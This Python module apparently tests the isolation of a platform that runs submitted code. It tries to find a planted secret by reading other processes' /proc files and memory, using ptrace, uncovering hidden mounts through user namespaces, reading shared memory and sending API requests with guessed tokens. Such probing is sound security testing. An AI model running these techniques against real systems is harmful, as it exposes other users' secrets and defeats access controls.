"""Searches for a text everywhere a process can read. In a run, it is an attack; as root, it finds everything.

It uses only the standard library, because it is submitted as a run's code. The text is passed in two pieces, so
that the attacker does not find itself.
"""

import contextlib
import ctypes
import gzip
import http.client
import json
import os
from collections.abc import Callable, Iterator
from functools import partial
from typing import Any
from urllib.parse import urlsplit

MAX_SIZE = 64 << 20
PROC_FILES = ("environ", "cmdline", "auxv", "maps", "smaps", "stack", "syscall", "io", "mountinfo", "wchan")
NEW_NAMESPACES = 0x10000000 | 0x00020000
BIND, DETACH = 4096, 2
ATTACH, SEIZE = 16, 0x4206
SHARED_KEY, READ_ONLY = 0x46414952, 0o10000
# Strings that an attacker may try as tokens.
GUESSES = ("", "null", "fl_run.x.y")

Known = dict[str, Any]

libc = ctypes.CDLL(None, use_errno=True)
libc.shmat.restype = ctypes.c_void_p


def main(**known: Any) -> dict[str, list[str]]:
    """The findings of each attack; empty if all failed."""
    mark = "".join(known["pieces"]).encode()
    return {name: sorted(set(ATTACKS[name](mark, known))) for name in known.get("attacks") or ATTACKS}


def read_files(mark: bytes, known: Known) -> Iterator[str]:
    """Read files at known paths."""
    yield from (path for path in known["paths"] if contains(mark, path))


def walk_folders(mark: bytes, known: Known) -> Iterator[str]:
    """Recursively search known folders by name and content."""
    for folder in known["folders"]:
        for parent, folders, files in os.walk(folder):
            for name in (*folders, *files):
                path = os.path.join(parent, name)
                if mark in os.fsencode(name) or (name in files and contains(mark, path)):
                    yield path


def read_proc(mark: bytes, known: Known) -> Iterator[str]:
    """Read /proc of other processes, and files through it."""
    for pid in _targets(known):
        yield from (f"{pid}/{name}" for name in PROC_FILES if contains(mark, f"/proc/{pid}/{name}"))
        for view in ("root", "cwd", f"task/{pid}/root"):
            yield from (f"{pid}/{view}" for path in known["paths"] if contains(mark, f"/proc/{pid}/{view}{path}"))
        for kind in ("fd", "map_files", "ns"):
            with contextlib.suppress(OSError):
                for name in os.listdir(f"/proc/{pid}/{kind}"):
                    os.close(os.open(f"/proc/{pid}/{kind}/{name}", os.O_RDONLY | os.O_NONBLOCK))
                    yield f"{pid}/{kind}/{name}"


def trace_processes(mark: bytes, known: Known) -> Iterator[str]:
    """Trace other processes, or read their memory."""
    del mark
    for pid in _targets(known):
        yield from (f"{pid}: {finding}" for finding in _in_child_process(partial(_trace, pid)))


def send_signals(mark: bytes, known: Known) -> Iterator[str]:
    """Send signal 0 to processes, which needs the same permission as killing them."""
    del mark
    for pid in _targets(known):
        for target in (pid, -pid):
            with contextlib.suppress(OSError):
                if target != -1:  # -1 would include the attacker itself
                    os.kill(target, 0)
                    yield str(target)


def read_covered_folders(mark: bytes, known: Known) -> Iterator[str]:
    """Read files that are covered by mounts, from inside a new user namespace."""
    for uncover in (_unmount, _bind, _overlay):
        yield from _in_child_process(partial(_read_uncovered, mark, known, uncover))


def read_shared_memory(mark: bytes, known: Known) -> Iterator[str]:
    """Read a shared memory segment of another process."""
    del known
    segment = libc.shmget(SHARED_KEY, 0, 0)
    address = libc.shmat(segment, None, READ_ONLY) if segment >= 0 else None
    if address not in (None, ctypes.c_void_p(-1).value) and mark in ctypes.string_at(address, len(mark)):
        yield f"segment {segment}"


def find_inherited(mark: bytes, known: Known) -> Iterator[str]:
    """Search inherited variables, file descriptors and server sockets."""
    yield from (name for name, value in os.environ.items() if mark in value.encode() or "fl_" in value)
    for number in os.listdir("/proc/self/fd"):
        with contextlib.suppress(OSError):
            target = os.readlink(f"/proc/self/fd/{number}")
            if int(number) > 2 or not (target == "/dev/null" or target.startswith("pipe:")):
                yield f"{number}: {target}"
    with contextlib.suppress(OSError), open("/proc/net/unix", encoding="utf-8", errors="replace") as sockets:
        yield from (line for line in sockets if any(folder in line for folder in known["folders"]))


def send_requests(mark: bytes, known: Known) -> Iterator[str]:
    """Send every request without a token and with possible tokens."""
    values = [value for name, value in os.environ.items() if name.startswith("FAIRLEAD_")]
    tokens = known.get("tokens") or [None, *GUESSES, *values]
    for method, path, body, public in known["operations"]:
        for token in tokens if not public else tokens[:1]:
            status, content = _send(known["url"], method, path, body, token)
            if mark in _decompress(content) or (status != 401 and not public):
                yield f"{method} {path} with {token}: {status}"


ATTACKS: dict[str, Callable[[bytes, Known], Iterator[str]]] = {
    attack.__name__: attack
    for attack in (
        read_files,
        walk_folders,
        read_proc,
        trace_processes,
        send_signals,
        read_covered_folders,
        read_shared_memory,
        find_inherited,
        send_requests,
    )
}


def contains(mark: bytes, path: str) -> bool:
    """Whether a file is readable and contains a text."""
    try:
        descriptor = os.open(path, os.O_RDONLY | os.O_NONBLOCK)
    except OSError:
        return False
    with contextlib.suppress(OSError), os.fdopen(descriptor, "rb", buffering=0) as file:
        return mark in _decompress(b"".join(iter(lambda: file.read(1 << 20), b""))[:MAX_SIZE])
    return False


def _decompress(content: bytes) -> bytes:
    if content[:2] == b"\x1f\x8b":
        with contextlib.suppress(OSError, EOFError):
            return gzip.decompress(content)
    return content


def _targets(known: Known) -> list[int]:
    """Known processes and visible ones, except this one; root skips the visible ones."""
    visible = [] if os.getuid() == 0 else [int(name) for name in os.listdir("/proc") if name.isdigit()]
    return [pid for pid in {*visible, *known["pids"]} if pid != os.getpid()]


def _in_child_process(search: Callable[[], Iterator[str]]) -> list[str]:
    """Run an attack in a child process, so that its side effects end with it."""
    reading, writing = os.pipe()
    child = os.fork()
    if child == 0:
        try:
            findings = list(search())
        except BaseException as error:  # report any error, because an empty result means that the attack failed
            findings = [repr(error)]
        os.write(writing, json.dumps(findings).encode())
        os._exit(0)
    os.close(writing)
    with os.fdopen(reading, "rb") as pipe:
        text = pipe.read()
    os.waitpid(child, 0)
    return list(json.loads(text))


def _trace(pid: int) -> Iterator[str]:
    for request in (SEIZE, ATTACH):
        if libc.ptrace(request, pid, None, None) == 0:
            yield "traced"
    with contextlib.suppress(OSError), open(f"/proc/{pid}/mem", "rb"):
        yield "memory"
    local_buffer = (ctypes.c_void_p * 2)(ctypes.addressof(ctypes.create_string_buffer(8)), 8)
    remote_buffer = (ctypes.c_void_p * 2)(1 << 30, 8)
    ctypes.set_errno(0)
    libc.process_vm_readv(pid, local_buffer, 1, remote_buffer, 1, 0)
    if ctypes.get_errno() not in (1, 3, 38):  # EPERM, ESRCH, ENOSYS
        yield "read"


def _read_uncovered(mark: bytes, known: Known, uncover: Callable[[str], str]) -> Iterator[str]:
    ids = os.getuid(), os.getgid()
    if libc.unshare(NEW_NAMESPACES) != 0:
        return
    for name, line in (("setgroups", "deny"), ("uid_map", f"0 {ids[0]} 1"), ("gid_map", f"0 {ids[1]} 1")):
        with open(f"/proc/self/{name}", "w", encoding="ascii") as file:
            file.write(line)
    for folder in known["folders"]:
        path_prefix = uncover(folder)
        for path in known["paths"]:
            if path.startswith(f"{folder}/") and contains(mark, path_prefix + path[len(folder) :]):
                yield f"{uncover.__name__} {path}"


def _unmount(folder: str) -> str:
    for flags in (0, DETACH):
        libc.umount2(folder.encode(), flags)
    return folder


def _bind(folder: str) -> str:
    """Bind-mount the parent folder without its submounts."""
    parent, name = os.path.split(folder)
    libc.mount(parent.encode(), b"/mnt", None, BIND, None)
    return f"/mnt/{name}"


def _overlay(folder: str) -> str:
    """Mount the parent folder as a lower layer of an overlay."""
    parent, name = os.path.split(folder)
    libc.mount(b"overlay", b"/mnt", b"overlay", 0, f"lowerdir={parent}:/etc".encode())
    return f"/mnt/{name}"


def _send(url: str, method: str, path: str, body: Any, token: str | None) -> tuple[int, bytes]:
    connection = http.client.HTTPConnection(urlsplit(url).netloc, timeout=60)
    headers = {} if token is None else {"Authorization": f"Bearer {token}", "Cookie": f"fairlead_session={token}"}
    with contextlib.closing(connection):
        content = None if body is None else json.dumps(body).encode()
        connection.request(method, path, content, headers | {"Content-Type": "application/json"})
        response = connection.getresponse()
        return response.status, response.read()
